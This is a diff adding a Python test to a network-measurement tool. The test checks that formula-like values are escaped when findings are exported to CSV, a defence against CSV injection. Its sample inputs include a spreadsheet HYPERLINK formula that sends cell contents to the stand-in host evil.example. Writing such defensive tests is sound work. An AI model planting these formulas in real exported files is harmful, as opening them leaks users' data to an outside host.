@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 from pathlib import Path
 
 import pandas as pd
@@ -9,6 +10,8 @@ import pytest
 from typer.testing import CliRunner
 
 from probes.cli import app
+from probes.measurement import Measurement, new_measurement_uid, new_report_id, ooni_time
+from probes.store import ReportManifest, ResultsStore
 from tests import analysis_helpers as h
 from tests.shared_data import SHARED_DATA
 
@@ -119,3 +122,54 @@ def test_publish_real_ooni_has_no_probe_ip(tmp_path: Path) -> None:
     text = m.astype(str).to_csv() + "".join(p.read_text() for p in out.glob("*.csv"))
     assert not any(ip in text for ip in probe_ips)
     assert len(m) == 28
+
+
+FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)")
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
+    """OWASP CSV injection: formula-like inputs get a leading ' in every CSV, not in Parquet."""
+    store = ResultsStore(tmp_path / "store")
+    for vantage in ("censored", "open"):
+        moment = h.START
+        report_id = new_report_id("tcp_connect", "ZZ", "AS0", moment)
+        manifest = ReportManifest(
+            report_id, "tcp_connect", vantage, moment.date().isoformat(), ooni_time(moment)
+        )
+        with store.open_report(manifest) as writer:
+            for target in FORMULAS:
+                writer.append(
+                    Measurement(
+                        test_name="tcp_connect",
+                        test_version="0.1.0",
+                        input=target,
+                        report_id=report_id,
+                        measurement_uid=new_measurement_uid("tcp_connect", "ZZ", moment),
+                        test_start_time=ooni_time(moment),
+                        measurement_start_time=ooni_time(moment),
+                        annotations={"vantage": vantage},
+                        test_keys={"blocking": False, "blocking_detail": None},
+                    )
+                )
+    out = tmp_path / "tables"
+    result = CliRunner().invoke(app, ["analyze", "--results", str(store.root), "--out", str(out)])
+    assert result.exit_code == 0, result.output
+    assert sorted(pd.read_parquet(out / "findings.parquet")["target"]) == sorted(FORMULAS)
+    _publish(store.root, tmp_path / "dataset")
+    for csv_path in [*out.glob("*.csv"), *(tmp_path / "dataset").glob("*.csv")]:
+        with csv_path.open(newline="", encoding="utf-8") as handle:
+            for row in csv.DictReader(handle):
+                for name, cell in row.items():
+                    assert not cell.startswith(("=", "+", "@")), (csv_path.name, name, cell)
+                    assert not cell.startswith("-") or _number(cell), (csv_path.name, name, cell)
+    with (out / "findings.csv").open(newline="", encoding="utf-8") as handle:
+        targets = sorted(row["target"] for row in csv.DictReader(handle))
+    assert targets == sorted("'" + f for f in FORMULAS)
+
+
+def _number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
